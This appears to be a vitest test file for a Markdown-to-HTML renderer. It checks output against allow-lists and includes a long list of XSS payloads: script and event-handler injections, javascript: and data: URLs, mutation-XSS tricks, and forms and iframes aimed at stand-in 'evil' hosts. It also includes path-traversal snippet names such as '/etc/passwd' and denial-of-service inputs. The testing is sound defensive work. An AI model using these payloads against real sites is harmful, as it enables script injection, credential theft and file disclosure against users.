import type { Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { switchedExtensions } from '../../src/markdown/page.ts';
import { fixtureNames, readFixture } from './fixtures.ts';
import { render as renderPage } from './sample.ts';

const extensions = [...switchedExtensions];

/** With everything switched on. */
function render(text: string, dialect: 'mkdocs' | 'gfm' = 'mkdocs', snippets?: Record<string, string>) {
  return renderPage(text, dialect, undefined, { extensions, snippets });
}

const tags = new Set(
  `a abbr aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure
  h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp section small span strike strong sub
  summary sup table tbody td tfoot th thead time tr tt u ul var video wbr
  svg g path rect circle text tspan
  math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle msub msup msubsup munder mover munderover mtable mtr mtd mpadded mphantom menclose`.split(/\s+/),
);
const attributes = new Set(
  `id title lang dir href src alt width height align className role ariaLabel ariaDescribedBy tabIndex loading decoding
  referrerPolicy rel dataLanguage dataFootnoteRef dataFootnoteBackref dataFootnotes open start reversed type disabled
  controls preload checked colSpan rowSpan scope span dateTime dataLine
  display mathvariant stretchy fence separator movablelimits largeop symmetric form lspace rspace minsize maxsize depth
  voffset linethickness displaystyle displayStyle scriptlevel accent accentunder columnalign rowspacing columnspacing notation
  viewBox d x y rx cx cy r fill stroke strokeWidth strokeDashArray`.split(/\s+/),
);

/** Parses the output as a browser does; gives every element, attribute and address that is not allowed. */
function harmIn(text: string): string[] {
  const harm: string[] = [];
  for (const dialect of ['mkdocs', 'gfm'] as const) {
    const { html } = render(text, dialect);
    const tree = unified()
      .use(rehypeRaw)
      .runSync({ type: 'root', children: [{ type: 'raw', value: html }] } as Root) as Root;
    visit(tree, (node) => {
      if (!['root', 'element', 'text'].includes(node.type)) harm.push(node.type);
      if (node.type !== 'element') return;
      if (!tags.has(node.tagName)) harm.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        const text = String(value);
        const address = name === 'href' || name === 'src';
        if (!attributes.has(name)) harm.push(`${name}=`);
        if (address && !/^(?:https?:\/\/|mailto:|tel:|#|cb:(?:\/|https?:\/\/))/.test(text)) harm.push(text);
        if (name === 'id' && text.startsWith('cb-')) harm.push(text);
      }
    });
  }
  return harm;
}

const payloads = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<ScRiPt src=//evil></ScRiPt>',
  '<script>\n\n</script>\n\n<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src="javascript:alert(1)">',
  '<img src=data:image/svg+xml;base64,PHN2Zz4=>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="https://evil" srcdoc="<script>alert(1)</script>"></iframe>',
  '<div><if<!-- x -->rame src="https://evil/"></if<!-- -->rame><vid<!-- -->eo src=//evil autoplay></video></div>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil/">',
  '<meta http-equiv="refresh" content="0;url=https://evil">',
  '<link rel="stylesheet" href="https://evil/x.css">',
  '<style>@import "https://evil";</style>',
  '<form action="https://evil"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="text" autofocus onfocus=alert(1)>',
  '<input type="image" src="https://evil/x.png">',
  '<textarea></textarea><script>alert(1)</script>',
  '<select><option></select><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java%0ascript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x][y]\n\n[y]: javascript:alert(1) "t"',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](cb:/etc/passwd) ![x](cb:https://evil) <a href="cb:/x">y</a> <img src="CB:/x">',
  '[x](\\\\evil.com/x) [y](/\\evil.com) [z](//evil.com)',
  '[x](https:evil.com) [y](http:/\\evil.com)',
  '<a href="x" target="_blank" onclick="alert(1)" style="position:fixed;inset:0" class="btn" name="location">x</a>',
  '<img name="getElementById" id="cb-menu"><form id="cookie" name="body">',
  '<a id="x" id="y" name="__proto__"></a><p id="__proto__">p</p><p id="constructor">q</p>',
  '<p id="a b">x</p><p id="dup">x</p><p id="dup">y</p>',
  '# <img src=x onerror=alert(1)>\n\n## "><script>alert(1)</script>',
  '```"><script>alert(1)</script>\nx\n```',
  '``` title="</figcaption><script>alert(1)</script>"\n<script>alert(1)</script>\n```',
  '```js" onload="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '!!! note" onclick="alert(1) "<script>alert(1)</script>"\n    <script>alert(1)</script>',
  '!!! note "</p><img src=x onerror=alert(1)>"\n    x',
  '=== "<img src=x onerror=alert(1)>"\n    </section></div><script>alert(1)</script>',
  '<!--cb-block:0--><!--cb-block:0:end-->\n\n!!! note\n    x',
  ':::note[<img src=x onerror=alert(1)>]\n<script>alert(1)</script>\n:::',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n| --- |\n| [x](javascript:alert(1)) |',
  '<table><tr><td><caption><script>alert(1)</script>',
  '[^"><script>]\n\n[^"><script>]: <script>alert(1)</script>',
  '## x {#y onclick=alert(1)}\n\n![x](y.png){ onload=alert(1) width="1\'onload=x" src=javascript:x }',
  '<!-- --!> <script>alert(1)</script> -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>" ?>\n\n<!DOCTYPE html [<!ENTITY x "y">]>',
  '<xss contenteditable onbeforeinput=alert(1)>x</xss>',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil/x.png}$ $\\class{x}{y}$ $\\htmlId{cb-x}{y}$',
  '$$\n\\text{</math><img src=x onerror=alert(1)>}\n$$',
  '$\\text{<script>alert(1)</script>}$ $`</code><img src=x onerror=alert(1)>`$',
  '```math\n</math><script>alert(1)</script>\n```',
  '<span data-formula="0">x</span> $x$ <div data-formula="0" onclick="alert(1)"></div>',
  '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math> <mi>y</mi> $x$',
  '*[x]: "><script>alert(1)</script>\n\nx',
  '*[__proto__]: a\n*[constructor]: b\n\n__proto__ constructor :__proto__: :constructor:',
  'Term <img src=x onerror=alert(1)>\n:   <script>alert(1)</script>',
  '<div markdown onclick="alert(1)">\n<script>alert(1)</script>\n</div>',
  '<p markdown="1"><img src=x onerror=alert(1)></p>',
  '++"<img src=x onerror=alert(1)>"++ ++<b>+x++',
  '=={++<script>alert(1)</script>++}== ^<b>^ ~<i>~ {~~<a>~><script>~~}',
  ':material-x"onclick=alert(1): :fontawesome-<script>:',
  '[x](y){: href="javascript:alert(1)" class="heading-anchor" onclick="alert(1)" style="x" id="cb-menu" }',
  '/// note | <script>alert(1)</script>\n    type: x" onclick="alert(1)\n\n<script>alert(1)</script>\n///',
  '/// html | div[onclick="alert(1)"]\n<script>alert(1)</script>\n///',
  '![x](y.png)\n/// caption\n<script>alert(1)</script>\n///',
  '``` js hl_lines="1 <script>" linenums="1" onclick=alert(1)" title="<script>"\n<script>\n```',
  '<code data-lines="1 2" class="language-js">x</code><pre><code data-lines="9 1">x</code></pre>',
  '`#!js"><script>alert(1)</script> x`',
  '![x](javascript:alert(1)#only-dark)',
  '--8<-- "evil.md"',
  '<video src=x onerror=alert(1)><source srcset=x></video><audio src=x></audio>',
  '<p><b id=1><b id=2>'.repeat(200),
  '\u202Ereversed\u0000nul\uFFFE',
];

test.for(payloads)('%j does no harm', (payload) => {
  expect(harmIn(payload)).toEqual([]);
  expect(harmIn(`- a\n\n  ${payload.replaceAll('\n', '\n  ')}\n`)).toEqual([]);
  expect(harmIn(`# h\n\n!!! note\n    ${payload.replaceAll('\n', '\n    ')}\n\nafter`)).toEqual([]);
});

test('what a page takes in is no more trusted than the page', () => {
  const { html } = render('--8<-- "evil.md"', 'mkdocs', { 'evil.md': '<script>alert(1)</script>\n\n[x](javascript:x)' });
  expect(html).toBe('<p><a>x</a></p>');
});

test('snippets stay within bounds', () => {
  const again = render('--8<-- "a.md"', 'mkdocs', { 'a.md': '--8<-- "b.md"', 'b.md': 'b\n\n--8<-- "a.md"' });
  expect(again.html).toBe('<p>b</p>');
  expect(again.problems).toMatchObject([{ rule: 'snippet-missing', line: 1 }]);
  const names = Array.from({ length: 12 }, (_, index) => `${index}.md`);
  const doubling = Object.fromEntries(
    names.map((name, index) => [name, `--8<-- "${index + 1}.md"\n`.repeat(20) + 'text\n'.repeat(20)]),
  );
  expect(render('--8<-- "0.md"\n', 'mkdocs', doubling).html.length).toBeLessThan(5_000_000);
  for (const name of ['https://evil/x.md', '../../etc/passwd', '/etc/passwd', '__proto__'])
    expect(render(`--8<-- "${name}"`, 'mkdocs', {}).problems).toMatchObject([{ rule: 'snippet-missing' }]);
});

test.for(fixtureNames)('broken characters in %s do no harm', (name) => {
  const { input } = readFixture(name);
  for (const broken of ['\ufffd', '\u0000', '\ud800', '\u202e', '\u2028', '\ufeff', '\u0007']) {
    const text = [...input.text].map((char, index) => (index % 7 === 3 ? broken + char : char)).join('');
    const { html, problems } = render(text, input.dialect);
    expect(problems.filter(({ rule }) => rule === 'markdown-failed')).toEqual([]);
    expect(html.length).toBeGreaterThan(0);
    expect(html.isWellFormed()).toBe(true);
  }
});

describe('pathological input ends in time', () => {
  const inputs: Record<string, string> = {
    quotes: `${'>'.repeat(100_000)} a`,
    'spaced quotes': `${'> '.repeat(50_000)}a`,
    'lists in one line': `${'- '.repeat(50_000)}a`,
    'ordered lists in one line': `${'1. '.repeat(50_000)}a`,
    'nested lists': Array.from({ length: 1500 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
    emphasis: '*a _b '.repeat(30_000),
    stars: `${'*'.repeat(100_000)}a${'*'.repeat(100_000)}`,
    brackets: '['.repeat(100_000),
    'link openings': '[a]('.repeat(50_000),
    'image openings': `${'!['.repeat(50_000)}a`,
    backticks: Array.from({ length: 1000 }, (_, count) => '`'.repeat(count)).join(' '),
    'nested HTML': '<div>'.repeat(50_000),
    'open formatting': `${Array.from({ length: 2000 }, (_, id) => `<b id=${id}>`).join('')}\n\n${'<p>x\n\n'.repeat(5000)}`,
    'open formatting that hides behind closed': `</b>${'<b title=x><i></b>'.repeat(3000)}\n\n${'text\n\n'.repeat(3000)}`,
    'less-than signs': '<'.repeat(200_000),
    comments: '<!-- '.repeat(50_000),
    'equal headings': '# a\n'.repeat(20_000),
    'nested admonitions': Array.from({ length: 300 }, (_, depth) => `${'    '.repeat(depth)}!!! note`).join('\n'),
    'equal admonitions': '!!! note\n    x\n\n'.repeat(10_000),
    'indented admonitions': '        !!! note\n'.repeat(50_000),
    'unclosed containers': ':::note\n'.repeat(50_000),
    'nested containers': `${':::note\n'.repeat(300)}${':::\n'.repeat(300)}`,
    'attribute lists': `![a](b){ ${'a=b '.repeat(1000)}`.repeat(50),
    'a wide table': `${'|a'.repeat(500)}\n${'|-'.repeat(500)}\n${'|b\n'.repeat(150)}`,
    'a table of 10^10 cells': `${'|a'.repeat(100_000)}\n${'|-'.repeat(100_000)}\n${'|b\n'.repeat(100_000)}`,
    'a long link definition': `[a]: https://example.com/${'x'.repeat(500_000)}\n\n${'[a] '.repeat(100_000)}`,
    'links out of the repository': '[a](../../../../x)\n\n'.repeat(50_000),
    'long headings and tables': `# ${'x'.repeat(500_000)}\n\n${'|a|\n|-|\n\n'.repeat(20_000)}`,
    footnotes: `${'[^1]'.repeat(5000)}\n\n[^1]: a`,
    'a long line of code': `\`\`\`js\n${'a=>'.repeat(100_000)}\n\`\`\``,
    'front matter without end': `---\n${'a: b\n'.repeat(100_000)}`,
    'front matter rules': '---\n'.repeat(30_000),
  };
  const more: Record<string, string> = {
    '5 MB': 'A paragraph of text, [a link](a.md) and `code`.\n\n'.repeat(110_000),
    '10,000 headings': Array.from({ length: 10_000 }, (_, index) => `## Heading ${index % 100}\n\nText.\n`).join('\n'),
    '200-deep quotes': `${'> '.repeat(200)}a`,
    '200-deep lists': Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
    '200-deep numbers': Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}1. a`).join('\n'),
    '200-deep divs with Markdown': `${'<div markdown>\n'.repeat(200)}x\n${'</div>\n'.repeat(200)}`,
    '200-deep slash blocks': `${'/// note\n'.repeat(200)}${'///\n'.repeat(200)}`,
    '200-deep definitions': Array.from({ length: 200 }, (_, depth) => `${'    '.repeat(depth)}a\n${'    '.repeat(depth)}:   b`).join('\n'),
    'a list of 60,000 items': '- a\n'.repeat(60_000),
    'unequal bullets': '- a\n* b\n+ c\n'.repeat(20_000),
    'numbers out of line': Array.from({ length: 30_000 }, (_, index) => `${' '.repeat(index % 9)}${index}. a`).join('\n'),
    'what the fast parser reads otherwise': '> a *_*\n'.repeat(20_000),
    'as long as may fall back': '*_* '.repeat(2400),
    'open marks': '==a ^^b {++c ~d ^e '.repeat(20_000),
    'closed marks': '==a== ^^b^^ {++c++} ~d~ ^e^ '.repeat(10_000),
    'signs of marks': `${'='.repeat(50_000)} ${'^'.repeat(50_000)} ${'~'.repeat(50_000)} ${'{++'.repeat(20_000)}`,
    pluses: `${'+'.repeat(100_000)} ${'++a+'.repeat(30_000)} ${'++a'.repeat(30_000)}`,
    colons: `${':'.repeat(100_000)} ${':a'.repeat(50_000)} ${':material-x'.repeat(20_000)}`,
    dollars: `${'$'.repeat(100_000)}\n${'$a '.repeat(30_000)}\n${'$a$'.repeat(5000)}\n${'\\('.repeat(9000)}`,
    'lines of dollars': '$$\n'.repeat(50_000),
    formulas: '$x^2$\n\n'.repeat(20_000),
    'a long formula': `$${'x^{'.repeat(1500)}${'}'.repeat(1500)}$`,
    'a formula that expands': '$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c}\\def\\e{\\d\\d\\d\\d}\\e$\n\n'.repeat(200),
    'abbreviations without end': `${Array.from({ length: 20_000 }, (_, index) => `*[w${index}]: x`).join('\n')}\n\n${'w1 w2 w19999 '.repeat(30_000)}`,
    'definitions of nothing': ': a\n'.repeat(50_000),
    'terms without end': `${'term\n'.repeat(30_000)}: a`,
    'divs with Markdown': '<div markdown>\n'.repeat(10_000),
    'attribute braces': `a${'{'.repeat(100_000)} ${'{: .a '.repeat(20_000)}`,
    'attributes after each word': '*a*{: #x .y z=1 }\n\n'.repeat(20_000),
    'marked lines': `\`\`\`js linenums="1" hl_lines="${'1-999999 '.repeat(200)}"\n${'a\n'.repeat(14_000)}\`\`\``,
    'code in text': '`#!js a=>b` '.repeat(5000),
    symbols: '(c)(r)(tm)-->1/2 1st '.repeat(20_000),
    'snippet marks': '--8<--\n'.repeat(50_000),
    'unclosed slash blocks': '/// note\n'.repeat(50_000),
    captions: '/// caption\nx\n///\n'.repeat(5000),
  };
  Object.assign(inputs, more);
  test.for(Object.keys(inputs))('%s', { timeout: 20_000 }, (name) => {
    const started = process.cpuUsage();
    const { html } = render(inputs[name] ?? '');
    const { user, system } = process.cpuUsage(started);
    expect((user + system) / 1e6).toBeLessThan(5);
    expect(html.length).toBeLessThan(20_000_000);
  });
});
